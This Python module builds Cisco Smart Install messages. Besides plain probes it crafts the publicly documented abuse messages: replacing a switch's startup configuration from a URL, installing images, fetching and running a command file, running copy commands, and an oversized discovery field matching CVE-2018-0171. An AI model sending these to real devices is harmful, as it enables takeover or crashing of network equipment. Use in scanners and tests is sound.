"""Cisco Smart Install messages (tcp/4786): four big-endian words of header, then fields at fixed offsets.

Offsets are those published with the protocol's misuse (facts of cisco-sr-20170214-smi and of public checkers).
"""

from __future__ import annotations

import struct

PORT = 4786
FROM_DIRECTOR, FROM_EXECUTE, FROM_CLIENT = 1, 2, 4
IMAGE, CONFIG, PROBE, EXECUTE, DISCOVERY, COPY = 2, 3, 4, 5, 7, 8


def message(
    kind: int, body: bytes, *, sender: int = FROM_DIRECTOR, version: int = 1, length: int | None = None
) -> bytes:
    """A message; ``length`` lies about the body's length where it is given."""
    return struct.pack(">IIII", sender, version, kind, len(body) if length is None else length) + body


def probe() -> bytes:
    """What a director (or a scanner) asks first."""
    return message(PROBE, struct.pack(">II", 1, 0))


def probe_reply() -> bytes:
    """What a client answers to a probe."""
    return message(3, struct.pack(">II", 1, 0), sender=FROM_CLIENT, version=0)


def keepalive_reply() -> bytes:
    """A client's short answer to its director."""
    return message(PROBE, struct.pack(">I", 1), sender=FROM_CLIENT, version=0)


def discovery(size: int = 28, rest: bytes = b"", **header: int) -> bytes:
    """What a director sends to a client that it discovers: a field of so many bytes, and others.

    Clients have room for 28 (CVE-2018-0171).
    """
    return message(DISCOVERY, struct.pack(">II", 1, size) + b"A" * size + rest, **header)


def config(url: str, *, hour: int = 0, minute: int = 1, **header: int) -> bytes:
    """Replace the startup configuration by a file and reload at hour:minute from now."""
    words = struct.pack(">8I", 3, 0, 0, 2, 0, 1, hour, minute)
    return message(CONFIG, words + bytes(132) + url.encode().ljust(132, b"\0"), **header)


def image(url: str, *, hour: int | None = None, minute: int = 0, **header: int) -> bytes:
    """Fetch a list of images, install them and reload, now or at a time."""
    now = (2, 0x821, 0, 0, 1, 0, 0, 0, 1)
    words = struct.pack(">9I", *(now if hour is None else (2, 0x801, 0, 0, 0, 1, hour, minute, 1)))
    return message(IMAGE, words + (url.encode().ljust(415, b"\0") + b"\1"), **header)


def execute(url: str, **header: int) -> bytes:
    """Fetch a file of commands and run them."""
    body = struct.pack(">I", 1) + bytes(392) + url.encode().ljust(131, b"\0") + b"\1"
    return message(EXECUTE, body, **({"sender": FROM_EXECUTE} | header))


def copy(*commands: str, **header: int) -> bytes:
    """Run up to three copy commands."""
    words = struct.pack(">6I", 0x00010014, 1, 0, 0xFC994737, 0x86600000, 0x000303F4)
    fields = [commands[i] if i < len(commands) else "" for i in range(3)]
    return message(COPY, words + b"".join(f.encode().ljust(336, b"\0") for f in fields), **header)
